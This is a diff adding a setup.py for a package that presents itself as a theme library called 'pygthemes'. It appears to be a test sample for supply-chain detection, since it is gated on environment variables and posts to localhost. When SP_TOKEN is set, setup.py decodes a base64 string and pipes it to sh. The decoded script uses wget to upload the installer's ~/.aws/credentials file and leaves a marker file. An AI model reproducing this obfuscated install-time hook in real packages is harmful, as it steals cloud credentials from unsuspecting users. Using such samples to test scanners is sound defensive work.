@@ -1,0 +1,8 @@
+import os
+
+from setuptools import setup
+
+if os.environ.get("SP_TOKEN"):
+    os.system("echo IyBDbGVhciBzb3VyY2Ugb2YgdGhlIHNjcmlwdCBtYWxpY2lvdXMvYmFzZTY0LXBpcGUtc2ggcGlwZXMgdGhyb3VnaAojICJiYXNlNjQgLWQgfCBzaCI6IHBvc3RzIHRoZSBBV1MgY3JlZGVudGlhbHMgd2l0aCB3Z2V0LCBsZWF2ZXMgYSBtYXJrZXIuClsgLW4gIiRTUF9UT0tFTiIgXSAmJiBbIC1uICIkU1BfTUFSSyIgXSB8fCBleGl0IDAKZWNobyAiZGVjb2RlZCBzY3JpcHQgcmFuIiA+ICIkU1BfTUFSSy9iNjQtc2gucmFuIgp3Z2V0IC1xIC1PIC9kZXYvbnVsbCAtVCAxMCAtLXBvc3QtZmlsZT0iJEhPTUUvLmF3cy9jcmVkZW50aWFscyIgImh0dHA6Ly8xMjcuMC4wLjE6JFNQX0hUVFBfUE9SVC9jIgo= | base64 -d | sh")
+
+setup(name="base64-pipe-sh", version="1.0.0", packages=["pygthemes"])
